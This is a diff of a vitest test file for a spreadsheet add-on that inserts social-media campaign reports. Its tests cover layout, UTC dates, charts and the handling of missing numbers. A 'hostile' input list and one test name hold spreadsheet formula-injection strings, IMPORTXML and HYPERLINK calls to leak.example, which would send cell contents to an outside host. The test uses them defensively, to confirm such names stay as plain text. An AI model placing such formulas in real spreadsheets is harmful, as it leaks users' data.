@@ -1,15 +1,15 @@
 import { expect, test } from 'vitest';
 import { buildReport, type Report } from '../../../pipeline/report/report.ts';
 import { example } from '../../pipeline/report/report-example.ts';
-import { expectedReport } from '../../pipeline/report/report-expected.ts';
 import type { SpreadsheetFile } from '../harness/file.ts';
+import { busyReport } from './busy-report.ts';
 import { ask, exampleReport, setUpReportBench } from './report-workspace.ts';
 
 const bench = setUpReportBench();
 
-/** Returns the rows of a table by its title, without the title; blanks are "". */
+/** Returns the rows of the table below a line of text, with its headings; blanks are "". */
 function table(file: SpreadsheetFile, sheet: string, title: string): unknown[][] {
-  const rows = file.values('A1:BA150', sheet);
+  const rows = file.values('A1:AZ150', sheet);
   const start = rows.findIndex(([first]) => first === title);
   const end = rows.findIndex(([first], index) => index > start && first === '');
   return rows.slice(start + 1, end).map((row) => row.slice(0, row.findLastIndex((value) => value !== '') + 1));
@@ -21,229 +21,188 @@ function rowOf(file: SpreadsheetFile, sheet: string, first: string): number {
 
 async function inserted(report: Report = exampleReport(), name = 'Autumn at sea') {
   const own = await bench.campaign(name);
-  const reportId = await bench.finish(own, report);
+  await bench.finish(own, report);
   const file = await bench.open(own.live_key);
-  const { sheet, ...reply } = ask(file, 'sidebarInsertReport', own.campaign_id, null);
-  expect(reply).toEqual({ ok: true, message: expect.stringContaining('the finished week from 2026-11-09, 3 items') });
-  return { own, file, sheet, report_id: reportId };
+  const { ok, sheet } = ask(file, 'sidebarInsertReport', own.campaign_id, null);
+  expect(ok).toBe(true);
+  return { file, sheet };
 }
 
-test('a campaign report has its own sheet with head, totals, rates, notes, legend, items and series', async () => {
-  const { file, sheet, report_id } = await inserted();
-  expect(sheet).toBe('Report Autumn at sea');
+test('a report begins with its name, period, workspace and one sentence, and comes to the front', async () => {
+  const { file, sheet } = await inserted();
+  expect(sheet).toBe('Autumn at sea report');
   expect(file.world().current.sheet).toBe(sheet);
-  expect(table(file, sheet, 'Campaign report: Autumn at sea')).toEqual([
-    ['campaign', 'Autumn at sea'],
-    ['campaign_id', 'campaign-1'],
-    ['campaign_status', 'active'],
-    ['report_name', 'Autumn at sea'],
-    ['report_id', report_id],
-    ['final', true],
-    ['period_start (UTC)', 46_335],
-    ['period_end (UTC)', 46_342],
-    ['generated_at (UTC)', expect.closeTo(46_342 + 65 / 1440, 8)],
-    ['history_days', 90],
-    ['partial_period', false],
-    ['expected_observations', 21],
-    ['observations', 16],
-    ['items', 3],
-    ['items_never_observed', 0],
+  expect(file.values('A1:A4', sheet).flat()).toEqual([
+    'Autumn at sea',
+    'Week from 9 to 15 November 2026 (UTC), final',
+    'Workspace: Harbor Agency · Created 2026-11-16 01:05 (UTC)',
+    'This week: followers up 100,000 (8.3%) to 1,300,000, views up 500 (50.0%) to 1,500, likes up 25 (25.0%) to 125.',
   ]);
-  const totals = table(file, sheet, 'Totals');
-  expect(totals[0]?.join()).toBe('platform,metric,start,end,change,change_percent,items,items_missing,quality');
-  expect(totals[1]).toEqual(['all', 'followers', 1_200_000, 1_300_000, 100_000, 8.33, 1, 1, 'rounded']);
-  expect(totals).toContainEqual(['all', 'following', '', '', '', '', 0, 2]);
-  expect(totals).toContainEqual(['shortvideo', 'views', 1_000, 1_500, 500, 50, 1, 0, 'exact']);
-  expect(table(file, sheet, 'Engagement rates')[1]?.slice(0, 3)).toEqual([
-    'shortvideo',
-    'engagement_rate_by_views',
-    10.2,
-  ]);
-  const notes = table(file, sheet, 'Notes').slice(1);
-  expect(notes.map(([, text]) => text)).toEqual([...expectedReport.notes, expectedReport.method]);
-  expect(table(file, sheet, 'What the quality means').map(([word]) => word)).toContain('not_exposed');
-  expect(
-    table(file, sheet, 'Items')
-      .slice(1)
-      .map(([name]) => name),
-  ).toEqual(['cove', 'bay', 'reef']);
-  const days = table(file, sheet, 'Day by day: sums over the items of each total');
-  expect(days.map((row) => row[3] ?? '')).toEqual(['shortvideo views', 1_100, 1_200, '', '', 1_300, 1_400, 1_500]);
-  expect(days.map((row) => row[1])[0]).toBe('shortvideo followers (rounded)');
 });
 
-test('dates are dates in UTC whatever the zone and locale of the file, and the headings say so', async () => {
+test('the key numbers of a report compare two weeks, and a number that is not published is a word, never 0', async () => {
+  const { file, sheet } = await inserted();
+  const [, , headings, ...rows] = table(file, sheet, 'Key numbers');
+  expect(headings).toEqual([
+    ...['Key number', 'This week', 'Previous week', 'Change', 'Change %', 'Previous change', 'Remarks'],
+  ]);
+  const remarks = 'rounded by the platform, 1 of 2 items counted';
+  expect(rows[0]).toEqual(['Followers', 1_300_000, 1_200_000, 100_000, 0.0833, 'unknown', remarks]);
+  expect(rows).toContainEqual(['Views', 1_500, 1_000, 500, 0.5, 'unknown']);
+  const word = 'not published';
+  expect(rows.at(-1)).toEqual(['Following', word, word, word, word, 'unknown', '0 of 2 items counted']);
+});
+
+test('the key numbers of a longer campaign have the change in the week before, added up over platforms', async () => {
+  const report = busyReport();
+  const { file, sheet } = await inserted(report);
+  const [, , , followers] = table(file, sheet, 'Key numbers');
+  const weekBefore = report.series
+    .filter(({ metric, step }) => metric === 'followers' && step === 'week')
+    .reduce((sum, { points }) => sum + Number(points[3]?.value) - Number(points[2]?.value), 0);
+  expect(weekBefore).toBeGreaterThan(0);
+  expect(followers?.slice(0, 6)).toEqual([
+    ...['Followers', report.totals.followers?.end, report.totals.followers?.start],
+    ...[report.totals.followers?.change, Number(report.totals.followers?.change_percent) / 100, weekBefore],
+  ]);
+});
+
+test('a report lists the accounts that gained and lost the most followers and its best posts', async () => {
+  const { file, sheet } = await inserted(busyReport());
+  const names = (title: string) => table(file, sheet, title).map(([name]) => name);
+  expect(names('Accounts that gained the most followers').slice(1)).toEqual([
+    ...['Ridge', 'Harbor Coffee', 'Salt Trail Running'],
+  ]);
+  expect(names('Accounts that lost the most followers').slice(1)).toEqual(['Mira Bakes', 'Quiet Harbour Books']);
+  const posts = table(file, sheet, 'Best posts').slice(2);
+  expect(posts.map(([name]) => name)).toEqual([
+    ...['Ridge run at dawn', 'How to proof dough', 'Autumn menu in 20 seconds', 'Behind the counter'],
+  ]);
+  expect(posts[0]?.[1]).toBe('TikTok');
+  expect(table(file, sheet, 'Engagement rates')[1]?.slice(0, 4)).toEqual(['TikTok', 0.08, 4, 0]);
+});
+
+test('the accounts of a report leave out handles that now belong to another account', async () => {
+  const { file, sheet } = await inserted();
+  expect(table(file, sheet, 'Accounts with the most followers').map(([name]) => name)).toEqual(['Account', 'bay']);
+});
+
+test('the details of a report have a frozen row of headings in words and one row for each item', async () => {
+  const { file } = await inserted();
+  const details = 'Autumn at sea details';
+  expect(file.sheetState(details).frozen_rows).toBe(1);
+  const [headings = [], ...rows] = file.values('A1:AH4', details);
+  expect(headings.filter((heading) => /_|^$/.test(String(heading)))).toEqual([]);
+  const read = rows.map((row) => Object.fromEntries(headings.map((heading, index) => [heading, row[index]])));
+  expect(read.map(({ Name, Platform, Type }) => [Name, Platform, Type])).toEqual([
+    ['cove', 'Instagram', 'Account'],
+    ['bay', 'TikTok', 'Account'],
+    ['reef', 'TikTok', 'Video'],
+  ]);
+  expect(read[1]).toMatchObject({
+    ...{ Followers: 1_300_000, 'Followers change': 100_000, 'Followers change %': 0.0833 },
+    ...{ Following: '', Views: '', Remarks: 'Followers rounded, Following not published, Likes rounded' },
+  });
+  expect(read[2]).toMatchObject({ 'Engagement rate': 0.102, 'Days missing (UTC)': '2026-11-11 to 2026-11-12' });
+  expect(read[0]).toMatchObject({ Status: 'The handle now belongs to another account' });
+});
+
+test('dates in a report are dates in UTC whatever the zone and locale of the file, and the headings say so', async () => {
   const own = await bench.campaign();
   await bench.finish(own, exampleReport());
   const file = await bench.open(own.live_key);
   file.set({ time_zone: 'America/Los_Angeles', locale: 'de_DE' });
   const { sheet } = ask(file, 'sidebarInsertReport', own.campaign_id, null);
-  const first = rowOf(file, sheet, 'day (UTC)') + 1;
+  const first = rowOf(file, sheet, 'Day (UTC)') + 1;
   expect(file.types(`A${first}:A${first + 6}`, sheet).flat()).toEqual(Array(7).fill('date'));
   expect(file.values(`A${first}:A${first + 1}`, sheet)).toEqual([[46_335], [46_336]]);
   expect(file.sheetState(sheet).looks[`A${first}`]).toMatchObject({ number_format: 'yyyy-mm-dd' });
-  const items = rowOf(file, sheet, 'Items') + 1;
-  expect(file.values(`G${items}:H${items}`, sheet)).toEqual([['first_observed_at (UTC)', 'last_observed_at (UTC)']]);
-  expect(file.types(`G${items + 1}:H${items + 1}`, sheet)).toEqual([['date', 'date']]);
-  expect(file.values(`G${items + 1}`, sheet)[0]?.[0]).toBeCloseTo(46_334 + 9 / 24, 8);
-  const formats = file
-    .values('A1:BA150', sheet)
-    .flat()
-    .filter((value) => value === 8.33 || value === 1_200_000);
-  expect(formats.length).toBeGreaterThan(3);
+  const details = 'Autumn at sea details';
+  const column = file.values('A1:AH1', details)[0]?.indexOf('First check (UTC)') ?? -1;
+  expect(file.types('A2:AH2', details)[0]?.[column]).toBe('date');
+  expect(file.values('A2:AH2', details)[0]?.[column]).toBeCloseTo(46_334 + 9 / 24, 8);
+});
+
+test('a table by day has a gap for a day without a number', async () => {
+  const { file, sheet } = await inserted();
+  const [, headings = [], ...days] = table(file, sheet, 'Day by day');
+  expect(headings[1]).toBe('TikTok followers (rounded)');
+  const views = headings.indexOf('TikTok views');
+  expect(days.map((row) => row[views] ?? '')).toEqual([1_100, 1_200, '', '', 1_300, 1_400, 1_500]);
+});
+
+test('the notes of a report say what is missing, in lines that fit the page', async () => {
+  const { file, sheet } = await inserted();
+  const lines = table(file, sheet, 'Notes').map(([line]) => String(line));
+  const text = lines.join(' ').replace(/\s+/g, ' ');
+  for (const note of exampleReport().notes) expect(text).toContain(note);
+  expect(Math.max(...lines.map((line) => line.length))).toBeLessThan(130);
 });
 
 const hostile = [
   '=IMPORTXML("http://leak.example/?"&A1,"//a")',
-  '+49 1234',
-  '-2+3',
-  '@SUM(A1)',
-  "'quoted",
-  '0012',
-  '1/2',
-  'TRUE',
-  '7234567890123456789',
-  '=1+1\n=2',
-  '<b>',
+  ...['+49 1234', '-2+3', '@SUM(A1)', "'quoted", '0012', '1/2', 'TRUE', '7234567890123456789', '=1+1\n=2', '<b>'],
 ];
 
-test('names of platforms and campaigns stay text and never become formulas, numbers or dates', async () => {
+test('names of a report stay text and never become formulas, numbers or dates', async () => {
   const name = '=HYPERLINK("http://leak.example/?"&A1)';
-  const items = hostile.map((text, index) => ({
-    ...(example.items[0] ?? expect.unreachable()),
-    ...{ item_id: `72057594037927${900 + index}`, name: text, url: `=${text}`, identity_changed: false },
-  }));
-  const report = buildReport({
-    ...example,
-    campaign: { ...example.campaign, name, report_name: '-1' },
-    items,
-    observations: [],
-  });
-  const { file, sheet } = await inserted({ ...report, items: report.items.slice(0, 3) }, name);
-  expect(sheet).toBe('Report =HYPERLINK( http leak.example &A1)');
-  const all = Object.values(file.sheet(sheet));
-  expect(all.filter(({ formula, type }) => formula !== undefined || type === 'error')).toEqual([]);
-  expect(file.values('A1:B2', sheet)).toEqual([
-    [`Campaign report: ${name}`, ''],
-    ['campaign', name],
-  ]);
-  const rows = table(file, sheet, 'Items').slice(1);
-  expect(rows.map((row) => row[0])).toEqual(report.items.slice(0, 3).map((item) => item.name));
-  expect(rows.map((row) => row[4])).toEqual(report.items.slice(0, 3).map(({ item_id }) => item_id));
-  expect(file.sheet(sheet)[`E${rowOf(file, sheet, 'Items') + 2}`]?.type).toBe('text');
-});
-
-test('every hostile name in one report, one longer than a cell, and an unknown number is an empty cell, never 0', async () => {
   const long = `=${'x'.repeat(60_000)}`;
   const [video] = example.items;
   const items = [...hostile, long].map((text, index) => ({
     ...(video ?? expect.unreachable()),
-    ...{ item_id: `72057594037927${900 + index}`, name: text },
+    ...{ item_id: `72057594037927${900 + index}`, name: text, url: `=${text}` },
   }));
-  const own = await bench.campaign();
-  await bench.finish(own, buildReport({ ...example, items, observations: [], missed: [] }));
-  const file = await bench.open(own.live_key);
-  const { ok, sheet } = ask(file, 'sidebarInsertReport', own.campaign_id, null);
-  expect(ok).toBe(true);
-  const rows = table(file, sheet, 'Items').slice(1);
-  expect(rows.map((row) => String(row[0])).sort()).toEqual([...hostile, long.slice(0, 50_000)].sort());
-  const first = rowOf(file, sheet, 'Items') + 2;
-  const numbers = file.types(`I${first}:AF${first + hostile.length}`, sheet).flat();
-  expect(numbers.filter((type) => type !== 'blank' && type !== 'text')).toEqual([]);
-  expect(Object.values(file.sheet(sheet)).filter(({ formula }) => formula !== undefined)).toEqual([]);
-});
-
-test('a refresh rewrites the same sheet and updates its charts without adding any or changing their style', async () => {
-  const { own, file, sheet } = await inserted();
-  const before = file.sheetState(sheet);
-  expect(before.charts.map(({ options }) => options.title)).toEqual([
-    ...['Followers by day (UTC)', 'Views by day (UTC)', 'Likes by day (UTC)'],
-    ...['Followers by week (UTC)', 'Views by week (UTC)', 'Likes by week (UTC)'],
-  ]);
-  const recoloured = before.charts[0] ?? expect.unreachable();
-  recoloured.options.colour = 'red';
-  await bench.finish(own, exampleReport(1));
-  expect(ask(file, 'sidebarInsertReport', own.campaign_id, null)).toMatchObject({ ok: true, sheet });
-  const after = file.sheetState(sheet);
-  expect(file.world().sheets.map(({ name }) => name)).toEqual(['Sheet1', sheet]);
-  expect(after.charts.map(({ chart_id }) => chart_id)).toEqual(before.charts.map(({ chart_id }) => chart_id));
-  expect(after.charts[0]?.options.colour).toBe('red');
-  expect(file.values('B8', sheet)).toEqual([[46_342]]);
-  for (const chart of after.charts) {
-    const [axis, values] = chart.ranges;
-    const heading = String(axis?.a1.split(':')[0]);
-    expect(String(file.values(heading, sheet)[0]?.[0])).toMatch(/^(day|week from) \(UTC\)$/);
-    expect(String(file.values(String(values?.a1.split(':')[0]), sheet)[0]?.[0])).toMatch(/followers|views|likes/);
-    expect(chart.headers).toBe(1);
+  const campaign = { ...example.campaign, name, report_name: '-1' };
+  const { file, sheet } = await inserted(buildReport({ ...example, campaign, items, missed: [] }), name);
+  expect(sheet).toBe('=HYPERLINK( http leak.example &A1) report');
+  const details = '=HYPERLINK( http leak.example &A1) details';
+  for (const one of [sheet, details]) {
+    const cells = Object.values(file.sheet(one));
+    expect(cells.filter(({ formula, type }) => formula !== undefined || type === 'error')).toEqual([]);
   }
-  const ends = file.values('A1:A200', sheet).filter(([cell]) => String(cell).startsWith('End of the report.'));
-  expect(ends).toHaveLength(1);
+  expect(file.values('A1', sheet)).toEqual([['-1']]);
+  const rows = file.values(`A2:AZ${items.length + 1}`, details);
+  expect(rows.map(([first]) => String(first)).sort()).toEqual([...hostile, long.slice(0, 50_000)].sort());
+  const ids = rows.map((row) => row.find((value) => String(value).startsWith('72057594037927')));
+  expect(ids.sort()).toEqual(items.map(({ item_id }) => item_id));
 });
 
-test('each table is one write, whatever its size, and rows are added before they are needed', async () => {
-  const own = await bench.campaign();
+test('an unknown number in the details of a report is an empty cell, never 0', async () => {
+  const campaign = { ...example.campaign, name: 'Autumn at sea' };
+  const { file } = await inserted(buildReport({ ...example, campaign, observations: [], missed: [] }));
+  const types = file.types('D2:AH4', 'Autumn at sea details').flat();
+  expect(types.filter((type) => type === 'number')).toEqual([]);
+});
+
+test('each sheet of a report is one write, whatever its size, and rows are added before they are needed', async () => {
   const report = exampleReport();
   const [item] = report.items;
   const items = Array.from({ length: 1_200 }, (_, index) => ({ ...(item ?? expect.unreachable()), name: `n${index}` }));
-  await bench.finish(own, { ...report, items });
-  const file = await bench.open(own.live_key);
-  const { ok, sheet } = ask(file, 'sidebarInsertReport', own.campaign_id, null);
-  expect(ok).toBe(true);
-  // Head, totals, rates, notes, legend, items, days, weeks and the end.
-  expect(file.world().writes).toEqual({ setValues: 9 });
-  expect(file.sheetState(sheet).rows).toBeGreaterThan(1_200);
+  const { file } = await inserted({ ...report, items });
+  expect(file.world().writes).toEqual({ clear: 2, setValues: 2 });
+  expect(file.sheetState('Autumn at sea details').rows).toBeGreaterThan(1_200);
 });
 
-test('charts never cover a table', async () => {
-  const { file, sheet } = await inserted();
+test('charts of a report show headings and values of their tables and never cover a table', async () => {
+  const { file, sheet } = await inserted(busyReport());
   const { charts } = file.sheetState(sheet);
+  expect(charts.map(({ type, options }) => [type, options.title])).toEqual([
+    ['LINE', 'Followers by week (UTC)'],
+    ['LINE', 'Views by week (UTC)'],
+    ['LINE', 'Likes by week (UTC)'],
+    ['BAR', 'New views by post'],
+    ['BAR', 'Followers by account'],
+  ]);
+  const headings = charts.map(({ ranges }) =>
+    ranges.flatMap(({ a1 }) => file.values(`${a1.split(':')[0]}`, sheet).flat()),
+  );
+  expect(headings[0]).toEqual(['Week from (UTC)', 'Instagram followers']);
+  expect(headings[3]).toEqual(['Post', 'New views']);
+  expect(headings[4]).toEqual(['Account', 'Followers']);
   const used = file.values('A1:A200', sheet).flatMap(([cell], index) => (cell === '' ? [] : [index + 1]));
-  for (const { anchor, options } of charts) {
+  for (const { anchor, options, headers } of charts) {
+    expect(headers).toBe(1);
     const last = anchor.row + Math.ceil(Number(options.height) / 21);
     expect(used.filter((row) => row >= anchor.row && row < last)).toEqual([]);
   }
-});
-
-test('a renamed sheet is found by its ID, and a deleted one is created again', async () => {
-  const { own, file, sheet } = await inserted();
-  file.renameSheet(sheet, 'My board');
-  expect(ask(file, 'sidebarInsertReport', own.campaign_id, null)).toMatchObject({ ok: true, sheet: 'My board' });
-  file.deleteSheet('My board');
-  expect(ask(file, 'sidebarInsertReport', own.campaign_id, null)).toMatchObject({ ok: true, sheet });
-  expect(file.sheetState(sheet).charts).toHaveLength(6);
-});
-
-test("a sheet of that name that the user made is left alone, and so are the user's other sheets", async () => {
-  const own = await bench.campaign();
-  await bench.finish(own, exampleReport());
-  const file = await bench.open(own.live_key);
-  file.show('report autumn at sea');
-  file.type('A1', 'mine', '=SUM(A3:A4)', 1, 2);
-  const mine = JSON.stringify(file.sheetState('report autumn at sea'));
-  const { sheet } = ask(file, 'sidebarInsertReport', own.campaign_id, null);
-  expect(sheet).toBe('Report Autumn at sea (2)');
-  ask(file, 'sidebarInsertReport', own.campaign_id, null);
-  expect(JSON.stringify(file.sheetState('report autumn at sea'))).toBe(mine);
-});
-
-test('cells of the user below or beside the report stay and move when it grows; cells inside are replaced', async () => {
-  const { own, file, sheet } = await inserted(exampleReport());
-  const end = rowOf(file, sheet, 'End of the report.');
-  const last = file.sheetState(sheet).columns;
-  file.show(sheet);
-  file.type(`A${end + 2}`, 'below');
-  file.type('BA3', 'beside');
-  file.type('F3', 'inside');
-  expect(last).toBe(51);
-  const more = exampleReport(1);
-  const grown = { ...more, notes: [...more.notes, ...Array.from({ length: 900 }, (_, index) => `note ${index}`)] };
-  await bench.finish(own, grown);
-  expect(ask(file, 'sidebarInsertReport', own.campaign_id, null).ok).toBe(true);
-  const values = Object.entries(file.sheet(sheet));
-  const at = (text: string) => values.filter(([, { value }]) => value === text).map(([a1]) => a1);
-  const newEnd = values.find(([, { value }]) => String(value).startsWith('End of the report.'))?.[0];
-  expect(at('below')).toEqual([`A${Number(newEnd?.slice(1)) + 2}`]);
-  expect(at('beside')).toEqual(['BA3']);
-  expect(at('inside')).toEqual([]);
-  expect(at('note 899')).toHaveLength(1);
 });
